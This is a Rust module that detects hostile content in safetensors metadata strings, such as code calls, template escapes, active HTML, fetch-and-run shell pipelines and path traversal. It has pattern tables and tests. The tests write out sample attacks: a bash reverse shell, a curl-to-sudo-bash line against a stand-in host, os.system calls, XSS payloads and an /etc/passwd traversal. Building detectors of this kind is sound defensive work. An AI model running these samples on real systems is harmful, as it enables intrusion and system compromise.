//! What has no business in a metadata string: code, markup that a browser runs, paths that climb into the system.
//!
//! A safetensors header carries strings that hubs and user interfaces show and that scripts read back. Trainers (kohya,
//! OneTrainer, diffusers) put prompts, tag lists, base64 thumbnails, paths of their own machine and URLs there; all of that is
//! normal. So the string is decoded first, and only complete constructs count: a call with its parenthesis, a tag with its
//! attribute. `eval every 10 steps`, `AdamW8bit(weight_decay=0.1)` and the tag `exec` are none.

use memchr::memmem;

/// What a string holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A call that runs code or starts a process.
    Code,
    /// Attribute chains by which a template or sandbox is left.
    Introspection,
    /// Markup that a browser runs.
    Markup,
    /// A shell one-liner that fetches and runs, or opens a remote shell.
    Shell,
    /// A path into the system by way of `..`.
    Traversal,
}

impl Kind {
    /// In a few words, for the message.
    pub fn title(self) -> &'static str {
        match self {
            Self::Code => "a code call",
            Self::Introspection => "access to Python internals",
            Self::Markup => "active markup",
            Self::Shell => "a shell command that runs what it fetches",
            Self::Traversal => "a path that climbs into the system",
        }
    }
}

/// A construct and where it stands in the string.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Sign {
    /// What it is.
    pub kind: Kind,
    /// Offset in the decoded string.
    pub offset: usize,
    /// Its name in the table.
    pub name: &'static str,
}

/// What must follow a literal for it to count.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Follow {
    /// `(`, after white space.
    Call,
    /// `(` and then a quote, a name or a number: `eval('x')`, not `eval()`.
    CallWithArgument,
    /// Nothing.
    Anything,
    /// White space, `>` or `/`: the end of a tag's name.
    TagEnd,
    /// An attribute before the tag's end: `<iframe src=`.
    Attribute,
    /// No white space, quote or punctuation: `javascript:alert`, not `javascript: 20 %`.
    Solid,
}

/// Constructs that count. The literal is matched as it stands for code, in any case for markup and shell; code must not
/// follow a letter, digit, `_` or `.` (`model.eval(`). Sources: formats.md 0.5 and 2 c (what the field greps for), with the
/// call syntax demanded.
const SIGNS: &[(Kind, &str, Follow)] = &[
    (Kind::Code, "__import__", Follow::Call),
    (Kind::Code, "eval", Follow::CallWithArgument),
    (Kind::Code, "exec", Follow::CallWithArgument),
    (Kind::Code, "os.system", Follow::Call),
    (Kind::Code, "os.popen", Follow::Call),
    (Kind::Code, "os.execv", Follow::Call),
    (Kind::Code, "os.execl", Follow::Call),
    (Kind::Code, "os.execve", Follow::Call),
    (Kind::Code, "os.spawnl", Follow::Call),
    (Kind::Code, "os.spawnv", Follow::Call),
    (Kind::Code, "posix.system", Follow::Call),
    (Kind::Code, "nt.system", Follow::Call),
    (Kind::Code, "pty.spawn", Follow::Call),
    (Kind::Code, "subprocess.Popen", Follow::Call),
    (Kind::Code, "subprocess.call", Follow::Call),
    (Kind::Code, "subprocess.run", Follow::Call),
    (Kind::Code, "subprocess.check_call", Follow::Call),
    (Kind::Code, "subprocess.check_output", Follow::Call),
    (Kind::Code, "subprocess.getoutput", Follow::Call),
    (Kind::Code, "subprocess.getstatusoutput", Follow::Call),
    (Kind::Code, "builtins.eval", Follow::Call),
    (Kind::Code, "builtins.exec", Follow::Call),
    (Kind::Code, "importlib.import_module", Follow::Call),
    (Kind::Code, "runpy.run_path", Follow::Call),
    (Kind::Code, "runpy.run_module", Follow::Call),
    (Kind::Code, "pickle.loads", Follow::Call),
    (Kind::Code, "cPickle.loads", Follow::Call),
    (Kind::Code, "marshal.loads", Follow::Call),
    (Kind::Code, "dill.loads", Follow::Call),
    (Kind::Code, "ctypes.CDLL", Follow::Call),
    (Kind::Code, "socket.socket", Follow::Call),
    (Kind::Introspection, "__subclasses__", Follow::Anything),
    (Kind::Introspection, "__globals__", Follow::Anything),
    (Kind::Introspection, "__builtins__", Follow::Anything),
    (Kind::Introspection, "__reduce__", Follow::Anything),
    (Kind::Introspection, "__reduce_ex__", Follow::Anything),
    (Kind::Introspection, "__class__.__", Follow::Anything),
    (Kind::Markup, "<script", Follow::TagEnd),
    (Kind::Markup, "<iframe", Follow::Attribute),
    (Kind::Markup, "<object", Follow::Attribute),
    (Kind::Markup, "<embed", Follow::Attribute),
    (Kind::Markup, "javascript:", Follow::Solid),
    (Kind::Markup, "vbscript:", Follow::Solid),
    (Kind::Markup, "data:text/html", Follow::Anything),
    (Kind::Shell, "/dev/tcp/", Follow::Solid),
    (Kind::Shell, "powershell -e", Follow::Solid),
    (Kind::Shell, "rm -rf /", Follow::Anything),
];

/// Handlers that a browser runs by itself or on a touch; they count inside a tag. Source: HTML, event handler content
/// attributes.
const HANDLERS: &[&str] = &["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"];

/// Folders of a system, after at least two `..`. Source: formats.md 0.5, archive system paths; `.ssh` and `root` added.
const SYSTEM_FOLDERS: &[&str] =
    &["etc", "bin", "usr", "var", "lib", "boot", "sys", "proc", "dev", "sbin", "root", "windows", ".ssh"];

/// The first sign in a decoded string, None for what metadata normally holds.
pub fn inspect(text: &str) -> Option<Sign> {
    let plain = text.as_bytes();
    let lower = text.to_ascii_lowercase();
    let lower = lower.as_bytes();
    // A header may hold a million short strings: most are done with after these looks.
    let code = memchr::memchr(b'(', plain).is_some();
    let introspection = memmem::find(plain, b"__").is_some();
    let markup = memchr::memchr2(b'<', b':', plain).is_some();
    let listed = SIGNS.iter().filter_map(|(kind, literal, follow)| {
        let skipped = match kind {
            Kind::Code => !code,
            Kind::Introspection => !introspection,
            Kind::Markup => !markup,
            Kind::Shell | Kind::Traversal => false,
        };
        if skipped || literal.len() > plain.len() {
            return None;
        }
        let any_case = matches!(kind, Kind::Markup | Kind::Shell);
        let bytes = if any_case { lower } else { plain };
        // A literal of many occurrences (`eval` in a tag list) is looked at up to a bound that no honest text reaches.
        let offset = memmem::find_iter(bytes, literal.as_bytes()).take(10_000).find(|at| {
            let starts = *kind != Kind::Code
                || !at.checked_sub(1).and_then(|b| bytes.get(b)).is_some_and(|b| is_name(*b) || *b == b'.');
            starts && follows(bytes.get(at + literal.len()..).unwrap_or_default(), *follow)
        })?;
        Some(Sign { kind: *kind, offset, name: literal })
    });
    let handlers = HANDLERS.iter().filter(|_| markup).filter_map(|name| {
        let offset = memmem::find_iter(lower, name.as_bytes()).take(10_000).find(|at| {
            let before = lower.get(at.saturating_sub(200)..*at).unwrap_or_default();
            let tag = before.iter().rposition(|b| *b == b'<' || *b == b'>').and_then(|p| before.get(p..));
            let in_tag = matches!(tag, Some([b'<', c, ..]) if c.is_ascii_alphabetic());
            let separated = before.last().is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'/'));
            let rest = lower.get(at + name.len()..).unwrap_or_default();
            in_tag && separated && first_solid(rest) == Some(b'=')
        })?;
        Some(Sign { kind: Kind::Markup, offset, name })
    });
    listed.chain(handlers).chain(fetch_and_run(lower)).chain(traversal(lower)).min_by_key(|sign| sign.offset)
}

fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

fn first_solid(rest: &[u8]) -> Option<u8> {
    rest.iter().copied().find(|b| !b.is_ascii_whitespace())
}

fn follows(rest: &[u8], follow: Follow) -> bool {
    match follow {
        Follow::Anything => true,
        Follow::Call => rest.iter().take(8).copied().find(|b| *b != b' ') == Some(b'('),
        Follow::CallWithArgument => {
            let Some(open) = rest.iter().take(8).position(|b| *b != b' ').filter(|p| rest.get(*p) == Some(&b'('))
            else {
                return false;
            };
            let argument = rest.get(open + 1..).unwrap_or_default();
            first_solid(argument).is_some_and(|b| matches!(b, b'"' | b'\'' | b'(')) || names_a_call(argument)
        }
        Follow::TagEnd => rest.first().is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'>' | b'/')),
        Follow::Attribute => {
            let tag = rest.get(..rest.len().min(300)).unwrap_or_default();
            let end = tag.iter().position(|b| *b == b'>').unwrap_or(tag.len());
            let starts = tag.first().is_some_and(|b| b.is_ascii_whitespace() || *b == b'/');
            starts && tag.get(..end).is_some_and(|t| t.contains(&b'='))
        }
        Follow::Solid => rest.first().is_some_and(|b| is_name(*b) || matches!(b, b'/' | b'(' | b'$' | b'%')),
    }
}

/// `compile(...)`, `open('x').read()`, `base64.b64decode(...)`: a dotted name and a parenthesis. Prose in parentheses
/// (`eval (every epoch)`) is none.
fn names_a_call(argument: &[u8]) -> bool {
    let name = argument.iter().take(80).take_while(|b| is_name(**b) || **b == b'.').count();
    name > 0 && argument.get(name) == Some(&b'(')
}

/// Commands that fetch or decode, with the start of an argument, so that a tag `curl hair` is none.
const FETCHES: &[&str] = &[
    "curl -",
    "curl http",
    "curl \"",
    "curl '",
    "curl $",
    "wget -",
    "wget http",
    "wget \"",
    "wget $",
    "base64 -d",
    "base64 --d",
];

/// Interpreters that run what is piped into them.
const INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "/bin/sh", "/bin/bash", "python", "python3", "perl"];

/// `curl ... | sh`, `wget ... | bash`, `... | base64 -d | sh`.
fn fetch_and_run(lower: &[u8]) -> Option<Sign> {
    memchr::memchr_iter(b'|', lower).take(10_000).find_map(|pipe| {
        let after = lower.get(pipe + 1..)?;
        let blanks = after.iter().take_while(|b| **b == b' ').count();
        let command = after.get(blanks..)?;
        let command = command.strip_prefix(b"sudo ").unwrap_or(command);
        let runs = INTERPRETERS.iter().any(|interpreter| {
            command.strip_prefix(interpreter.as_bytes()).is_some_and(|rest| {
                rest.is_empty()
                    || rest.starts_with(b" -")
                    || matches!(rest.first(), Some(b'\n' | b';' | b'"' | b'\'' | b'&' | b')' | b'`' | b'|'))
            })
        });
        let start = pipe.saturating_sub(300);
        let before = lower.get(start..pipe)?;
        let fetch = FETCHES.iter().find_map(|f| memmem::rfind(before, f.as_bytes()))?;
        runs.then_some(Sign { kind: Kind::Shell, offset: start + fetch, name: "fetch piped into an interpreter" })
    })
}

/// Two or more `..` components in a row (plain, with backslashes or percent-encoded) that lead to a folder of the system, or
/// percent-encoded ones anywhere: nobody encodes a path of his own machine. `../vae/x.safetensors` of a training run is none.
fn traversal(lower: &[u8]) -> Option<Sign> {
    for encoded in ["%2e%2e%2f", "%2e%2e/", "..%2f", "%2e%2e%5c", "..%5c"] {
        if let Some(offset) = memmem::find(lower, encoded.as_bytes()) {
            return Some(Sign { kind: Kind::Traversal, offset, name: "percent-encoded '..'" });
        }
    }
    memmem::find_iter(lower, b"..").take(10_000).find_map(|at| {
        let rest = lower.get(at..)?;
        let end = rest
            .iter()
            .take(4096)
            .position(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b',' | b';'))
            .unwrap_or(rest.len().min(4096));
        let mut parts = rest.get(..end)?.split(|b| *b == b'/' || *b == b'\\').filter(|p| !p.is_empty());
        let ups = parts.by_ref().take_while(|p| *p == b"..").count();
        // `take_while` took the first component that is not `..`.
        let path = rest.get(..end)?;
        let target = path.split(|b| *b == b'/' || *b == b'\\').filter(|p| !p.is_empty()).nth(ups)?;
        let system = SYSTEM_FOLDERS.iter().any(|f| f.as_bytes() == target);
        (ups >= 2 && system).then_some(Sign { kind: Kind::Traversal, offset: at, name: "'..' into a system folder" })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructs_count() {
        for (text, kind) in [
            ("__import__('os').system('id')", Kind::Code),
            ("x = eval (\"1+1\")", Kind::Code),
            ("exec(base64.b64decode('aWQ='))", Kind::Code),
            ("import os; os.system('id')", Kind::Code),
            ("subprocess.Popen (['id'])", Kind::Code),
            ("{{ ''.__class__.__mro__[1].__subclasses__() }}", Kind::Introspection),
            ("<SCRIPT src=x>", Kind::Markup),
            ("<script>alert(1)</script>", Kind::Markup),
            ("<img src=x onerror = alert(1)>", Kind::Markup),
            ("<a href=\"javascript:alert(1)\">x</a>", Kind::Markup),
            ("<iframe src='//x'>", Kind::Markup),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Kind::Shell),
            ("curl -s http://x.example/a | sudo bash", Kind::Shell),
            ("../../../../etc/passwd", Kind::Traversal),
            ("..\\..\\windows\\system32\\x", Kind::Traversal),
            ("%2e%2e%2f%2e%2e%2fetc", Kind::Traversal),
        ] {
            assert_eq!(inspect(text).map(|s| s.kind), Some(kind), "{text}");
        }
    }

    #[test]
    fn what_trainers_write_does_not() {
        for text in [
            "eval every 10 steps; then exec summary",
            "eval (every epoch)",
            "model.eval() and loss.eval('x')",
            "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)",
            "{\"img\": {\"1girl\": 4, \"os\": 2, \"exec\": 1, \"evaluation(test)\": 3}}",
            "Prompt: <lora:style:1>, <embed:bad-hands:1>, best quality",
            "data:image/png;base64,AAAA/../BBBB",
            "languages: {\"javascript\": 20, \"python\": 30}; JavaScript: The Good Parts",
            "C:\\models\\sd\\v1-5.safetensors ../vae/kl-f8.safetensors ../../models/base.safetensors",
            "see https://civitai.com/models/1 | https://x.example",
            "ss_optimizer_args: weight_decay=0.1 | betas=(0.9,0.99)",
            "あいう 日本語 \u{1f600}",
            "<p>A model with <b>bold</b> claims and <a href='https://x.example'>a page</a>, version 1..2</p>",
            "curl hair | shoulder length | python print shirt",
            "",
        ] {
            assert_eq!(inspect(text), None, "{text}");
        }
    }
}
